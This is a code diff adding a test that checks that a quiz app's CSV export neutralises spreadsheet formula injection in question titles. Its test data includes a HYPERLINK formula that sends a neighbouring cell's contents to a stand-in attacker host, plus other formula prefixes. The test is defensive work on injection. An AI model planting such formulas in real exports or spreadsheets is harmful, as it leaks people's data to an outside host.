@@ -8,7 +8,7 @@ import io
 
 import pytest
 from pluggy import PluginManager
-from quizkit import good_answers, public_path, submit
+from quizkit import good_answers, make_quiz, public_path, submit
 from sqlalchemy import select
 
 from orbitflow import hookimpl
@@ -42,6 +42,29 @@ def test_submissions_page_and_csv_export(testapp, db, company, quiz, manager, lo
     assert rows[1][4] == "'=HYPERLINK(1)"  # never a formula in a spreadsheet
     assert rows[1][-5:] == ["Small", "TikTok", "example.org", "120", "4"]
     assert "quiz.export" in [e.action for e in db.scalars(select(AuditEntry))]
+
+
+def test_csv_header_defuses_question_titles_as_formulas(testapp, db, company, manager, login_as):
+    spec = {
+        "title": "Formulas",
+        "slug": "formulas",
+        "questions": [
+            {"kind": "text", "text": '=HYPERLINK("https://evil.example/?x="&A2,"open")', "required": False},
+            {"kind": "text", "text": "@SUM(1+1)", "required": False},
+            {"kind": "text", "text": "+1-1", "required": False},
+            {"kind": "text", "text": "Plain - title", "required": False},
+        ],
+        "outcomes": [],
+    }
+    quiz = make_quiz(db, company, spec)
+    contact = [("name", "Ada"), ("email", "ada@example.com"), ("phone", ""), ("consent", "1")]
+    submit(visitor(testapp), public_path(company, quiz), contact, status=303)
+    login_as(manager)
+    rows = list(csv.reader(io.StringIO(testapp.get(f"/quizzes/{quiz.id}/submissions.csv").text)))
+    hyperlink = '\'=HYPERLINK("https://evil.example/?x="&A2,"open")'
+    assert rows[0][-4:] == [hyperlink, "'@SUM(1+1)", "'+1-1", "Plain - title"]
+    assert rows[0][:2] == ["submitted_at", "submission_id"]
+    assert len(rows) == 2
 
 
 @pytest.mark.parametrize("role", ["AGENT"])
